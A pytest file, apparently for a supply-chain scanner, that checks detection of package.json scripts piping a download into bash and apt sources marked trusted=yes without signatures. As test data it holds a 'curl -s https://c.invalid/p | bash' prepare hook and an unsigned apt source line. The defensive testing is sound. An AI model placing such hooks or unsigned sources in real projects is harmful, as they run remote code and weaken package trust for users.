"""Scripts in manifests that are no install hooks, and settings of package managers that ask for no signature."""

import json

import pytest
from source_lab import ids, look

from beartrap.vet.behaviour import Behaviour
from beartrap.vet.kinds import Kind


def scripts(**named: str) -> str:
    return json.dumps({"name": "pkg", "scripts": named})


def test_a_script_of_a_manifest_pipes_a_download_into_a_shell() -> None:
    assert "process.piped" in ids("package.json", scripts(prepare="curl -s https://c.invalid/p | bash"))


@pytest.mark.parametrize("line", ["husky install && npm run build", "npm publish --access public", "rimraf dist"])
def test_a_script_that_builds_or_publishes_the_package_is_what_scripts_are_for(line: str) -> None:
    assert ids("package.json", scripts(release=line)) == set()


@pytest.mark.parametrize(
    ("line", "hit"),
    [
        ("deb [trusted=yes] http://apt.invalid/debian stable main", True),
        ("deb [signed-by=/usr/share/keyrings/a.gpg] https://apt.invalid/debian stable main", False),
        ("# deb [trusted=yes] http://apt.invalid/debian stable main", False),
    ],
)
def test_a_package_source_that_asks_for_no_signature(line: str, hit: bool) -> None:
    seen = look("etc/apt/sources.list.d/a.list", line + "\n", kind=Kind.TEXT)
    assert ("weakened.trust" in {one.id for one in seen if isinstance(one, Behaviour)}) == hit
